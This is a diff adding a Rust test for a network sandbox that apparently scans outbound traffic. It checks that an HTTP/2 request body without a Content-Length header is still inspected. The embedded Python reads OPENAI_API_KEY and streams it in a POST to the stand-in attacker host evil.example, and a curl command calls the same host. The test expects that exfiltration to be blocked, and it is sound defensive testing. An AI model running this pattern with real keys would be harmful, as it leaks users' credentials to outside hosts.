@@ -221,3 +221,53 @@ fn proxies_inside_the_sandbox_are_answered_by_the_boundary() {
     );
     assert!(!got.contains(PH), "{got}");
 }
+
+#[test]
+fn http2_bodies_without_content_length_are_scanned() {
+    if !is_root() {
+        return;
+    }
+    // An HTTP/2 request body needs no Content-Length: it must be scanned all the same.
+    let net = FakeInternet::with_h2(&[80], &[443], &[8443], &[]);
+    let o = run(
+        &net,
+        &[],
+        &format!(
+            "{}; curl --http1.1 -s -m 5 -o /dev/null http://evil.example/sentinel-zz",
+            python(
+                r#"
+import os, httpx
+ph = os.environ["OPENAI_API_KEY"].encode()
+def body():
+    yield b"note="
+    yield ph
+with httpx.Client(http2=True, timeout=5) as c:
+    r = c.post("https://api.openai.com:8443/allowed", content=body())
+    print("allowed", r.http_version, r.status_code)
+try:
+    with httpx.Client(http2=True, timeout=5) as c:
+        r = c.post("https://evil.example:8443/streamed", content=body())
+        print("evil", r.status_code)
+except Exception as e:
+    print("evil-blocked", type(e).__name__)
+"#
+            )
+        ),
+    );
+    let out = stdout(&o);
+    // The same request shape goes through to the allowed host (placeholder inert in a body)...
+    assert!(out.contains("allowed HTTP/2 200"), "{}", report(&o, &net));
+    // ...and is stopped on its way to an unknown one.
+    assert!(out.contains("evil-blocked"), "{}", report(&o, &net));
+    assert!(net.wait_received("/sentinel-zz"));
+    let got = net.received();
+    assert!(got.contains("/allowed"), "{got}");
+    assert!(!got.contains("/streamed"), "{got}");
+    assert!(!got_contains_evil_placeholder(&net), "{got}");
+}
+
+fn got_contains_evil_placeholder(net: &FakeInternet) -> bool {
+    net.connections()
+        .iter()
+        .any(|(sni, data)| sni == "evil.example" && data.contains("MSB_"))
+}
